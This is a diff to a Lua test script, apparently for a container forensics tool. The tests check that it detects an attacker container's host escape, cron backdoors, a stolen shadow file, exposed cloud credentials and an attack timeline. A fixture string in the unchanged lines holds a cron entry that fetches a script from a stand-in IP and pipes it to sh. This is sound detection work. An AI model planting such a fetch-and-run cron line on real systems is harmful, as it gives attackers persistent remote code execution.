@@ -5,6 +5,7 @@ local t = require "testlib"
 local inv = require "invlib"
 local _, argv = ...
 local host, root = argv[1], argv[2]
+argv.image = os.getenv("WO_HOST_IMAGE")
 
 local function sh(cmd) return io.popen(cmd):read("l") end
 
@@ -45,6 +46,63 @@ t.eq("layer files: layer and content", layer, {
   "56cb9693f4055f873e78a138e074e4103353981ee1db3a7dd12752ee3b5f9b29 "
     .. "*/5 * * * * wget -q -O- http://203.0.113.66/x.sh | sh "
     .. "# DFX-ALPINE-CRON\n" })
+
+-- the same from the disk image itself, no mount
+if argv.image then
+  recs = inv.run("root-mounts-cron", { argv.image })
+  t.eq("image: reach", inv.names(recs, "reach"), { "attacker" })
+  t.eq("image: cron writes", inv.writes(recs), {
+    "attacker host /host/etc/cron.d/backdoor life",
+    "attacker host /host/etc/cron.d/e2scrub_all -",
+    "attacker host /host/etc/cron.daily/logrotate -",
+    "attacker host /host/etc/crontab -",
+    "attacker layer /etc/crontabs/root life",
+    "attacker layer /var/spool/cron/crontabs/root life" })
+  local b = inv.where(recs, "cron-write")[1]
+  t.eq("image: backdoor provenance", { b.inum, b.sha256, b.source },
+    { bd.inum, bd.sha256, argv.image .. ":/etc/cron.d/backdoor" })
+end
+
+-- escape and persistence agree: the attacker alone reaches the host, and
+-- its cron writes are its persistence
+recs = inv.run("escape", { host }, { min = "reach" })
+t.eq("escape: reach", inv.names(recs, "escape"), { "attacker" })
+t.eq("escape: risk", recs[1].risk, "critical")
+recs = inv.run("persistence", { host })
+local got = {}
+for _, r in ipairs(inv.where(recs, "persistence")) do
+  got[#got + 1] = ("%s %s %s %s"):format(r.name, r.where, r.what, r.path)
+end
+table.sort(got)
+t.eq("persistence: findings", got, {
+  "attacker host cron /host/etc/cron.d/backdoor",
+  "attacker layer cron /etc/crontabs/root",
+  "attacker layer cron /var/spool/cron/crontabs/root",
+  "tty-session layer ssh /root/authorized_keys.bak" })
+t.eq("persistence: reach", inv.names(recs, "reach"), { "attacker" })
+
+-- secrets: the web container's environment, the stolen shadow copy
+recs = inv.run("secrets", { root })
+got = {}
+for _, r in ipairs(recs) do
+  got[#got + 1] = r.name .. " " .. r.where .. " " .. r.key
+end
+table.sort(got)
+t.eq("secrets: findings", got, { "attacker file /tmp/.shadow.stolen:1",
+  "attacker file /tmp/.shadow.stolen:6", "webapp env AWS_ACCESS_KEY_ID",
+  "webapp env AWS_SECRET_ACCESS_KEY", "webapp env DB_PASSWORD" })
+
+-- timeline: the backdoor on the host comes before the container's own
+-- files and its recorded start (Docker stamps StartedAt late)
+recs = inv.run("timeline", { host }, { logs = "no" })
+local tl = {}
+for _, r in ipairs(recs) do
+  if r.name == "attacker" then tl[#tl + 1] = r.what .. " " .. (r.path or "") end
+end
+t.eq("timeline: the attacker", tl, { "container-created ",
+  "host-file /host/etc/cron.d/backdoor", "file /etc/crontabs/root",
+  "file /var/spool/cron/crontabs/root", "file /tmp/.shadow.stolen",
+  "container-started ", "container-finished " })
 
 -- the data root alone: the layer files, and a note for the host part
 recs = inv.run("root-mounts-cron", { root })
